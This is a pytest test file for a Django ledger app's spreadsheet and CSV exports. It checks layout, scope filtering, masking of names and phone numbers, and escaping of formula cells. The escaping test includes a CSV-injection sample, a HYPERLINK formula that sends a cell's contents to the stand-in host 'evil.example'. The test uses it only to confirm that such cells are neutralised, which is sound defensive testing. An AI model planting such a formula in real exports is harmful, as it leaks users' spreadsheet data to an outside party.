"""Exports read back as an office would open them (openpyxl), in the reader's scope."""

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from taizhang.intake import services as intake
from taizhang.intake.models import Channel, Suggestion
from taizhang.ledger import services
from taizhang.ledger.models import Problem
from taizhang.sheets import workbook
from taizhang.sheets.ledger_export import COLUMNS, MORE, PRINTED
from taizhang.sheets.suggestion_export import export_suggestions
from taizhang.testing import close, record


@pytest.fixture
def ledger(world):
    first = record(world, title="审批环节多", measures=["精简环节", "压缩时限"])
    services.report_progress(first, by=world.handler_a1, percent=60, text="已精简两个环节")
    closed = record(world, title="窗口排队长")
    close(world, closed)
    record(world, by=world.handler_b1, org=world.dept_b1, title="侯马的问题")
    return first


def _problem_rows(sheet):
    """The data rows of an exported sheet: those that start with a 序号."""
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=4)]
    return [row for row in rows if isinstance(row[0], int)]


def test_command_writes_the_standard_workbook(world, ledger, tmp_path):
    out = tmp_path / "台账.xlsx"
    call_command("export", "--campaign", world.campaign.slug, "--out", str(out))
    book = load_workbook(out)
    sheet, more = book["问题台账"], book["其他信息"]
    assert sheet["A1"].value == "测试活动问题整改台账"
    assert "填报单位:临汾市" in sheet["A2"].value and "共 3 条" in sheet["A2"].value
    assert [c.value for c in sheet[3]] == [c.header for c in PRINTED]
    assert [c.value for c in more[3]] == [c.header for c in MORE]
    assert sheet.freeze_panes == "A4"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
    rows = _problem_rows(sheet)
    assert len(rows) == 3
    by_title = {row[2]: row for row in rows}
    assert by_title["审批环节多"][6] == "1. 精简环节\n2. 压缩时限"
    assert "已精简两个环节" in by_title["审批环节多"][8]
    assert by_title["窗口排队长"][9] == "已销号"
    signed = [c.value for c in sheet[sheet.max_row]]
    assert signed[0].startswith("填表人:") and "审核人:" in signed[0]
    # Every cell of the table has its border, and a row of wrapped text is tall enough for it.
    first = sheet.cell(row=4, column=1)
    assert first.border.left.style == "thin" and sheet.cell(row=4, column=10).border.top.style
    tall = next(r for r in range(4, 7) if sheet.cell(row=r, column=3).value == "审批环节多")
    assert sheet.row_dimensions[tall].height >= 2 * 14
    details = {row[1]: row for row in _problem_rows(more)}
    number = by_title["审批环节多"][1]
    assert details[number][6] == "60%" and details[number][2] == "优化营商环境"
    closed = by_title["窗口排队长"][1]
    assert details[closed][7] is not None


def test_org_filter_and_csv(world, ledger, tmp_path):
    out = tmp_path / "county.csv"
    call_command("export", "--campaign", world.campaign.slug, "--org", "141081", "--out", str(out))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, for Excel and WPS
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["序号", "编号", "问题"] and [r[2] for r in rows[1:]] == ["侯马的问题"]


def test_web_export_keeps_the_readers_scope_and_filters(world, ledger):
    client = Client()
    client.force_login(world.handler_a1)
    url = reverse("problem_export", args=[world.campaign.slug, "xlsx"])
    response = client.get(url)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["问题台账"]
    titles = {row[2] for row in _problem_rows(sheet)}
    assert titles == {"审批环节多", "窗口排队长"}  # not 侯马's
    response = client.get(url + "?status=closed")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["问题台账"]
    assert [row[2] for row in _problem_rows(sheet)] == ["窗口排队长"]
    assert (
        client.get(reverse("problem_export", args=[world.campaign.slug, "exe"])).status_code == 404
    )


def test_suggestions_are_masked_unless_asked(world, tmp_path):
    intake.submit_suggestion(
        world.campaign,
        channel=Channel.HOTLINE,
        title="噪音",
        text="x",
        name="王五",
        phone="13712345678",
    )
    out = tmp_path / "s.xlsx"
    export_suggestions(Suggestion.objects.all(), campaign=world.campaign, out=out)
    row = [c.value for c in next(load_workbook(out).active.iter_rows(min_row=4))]
    assert "王*" in row and "137****5678" in row and "13712345678" not in row
    export_suggestions(Suggestion.objects.all(), campaign=world.campaign, out=out, unmask=True)
    row = [c.value for c in next(load_workbook(out).active.iter_rows(min_row=4))]
    assert "13712345678" in row


def test_a_failed_export_leaves_no_file(world, ledger, tmp_path):
    def broken_rows():
        yield [1] * len(COLUMNS)
        raise RuntimeError("database went away")

    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "broken.xlsx"
    with pytest.raises(RuntimeError):
        workbook.write_xlsx(
            out, sheet="s", title="t", subtitle="", columns=COLUMNS, rows=broken_rows()
        )
    assert list(folder.iterdir()) == []  # neither the file nor a partial one
    assert Problem.objects.count() == 3


def test_csv_cells_a_spreadsheet_would_run_stay_text_and_read_back(world, tmp_path):
    from taizhang.sheets.reading import read_table
    from taizhang.sheets.workbook import Column, write_csv

    hostile = ['=HYPERLINK("http://evil.example/?d="&C5,"点此")', "+1", "-1+2", "@SUM(A1:A9)",
               "\tx", "正常文本", "a=b"]  # fmt: skip
    out = tmp_path / "out.csv"
    write_csv(out, columns=[Column("值", 20)], rows=[[v] for v in hostile] + [[-5], [3.5]])
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))[1:]
    cells = [r[0] for r in rows]
    assert all(c.startswith("'") for c in cells[:5])
    assert cells[5:] == ["正常文本", "a=b", "-5", "3.5"]  # numbers are numbers, not text
    assert [r[0] for r in read_table(out, set()).rows[1:]] == [*hostile, "-5", "3.5"]
